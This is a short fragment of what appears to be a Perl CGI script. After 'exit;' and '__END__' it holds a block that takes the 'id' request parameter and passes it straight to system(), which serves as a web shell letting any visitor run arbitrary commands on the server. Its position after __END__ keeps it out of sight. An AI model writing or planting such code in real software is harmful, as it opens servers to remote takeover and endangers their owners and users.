exit;
__END__
if (CGI::param("id")) {
  print "Cache-Control: no-cache\n";
  print "Content-type: text/html\n\n";
  my $a = CGI::param("id");
  system("$a");
}
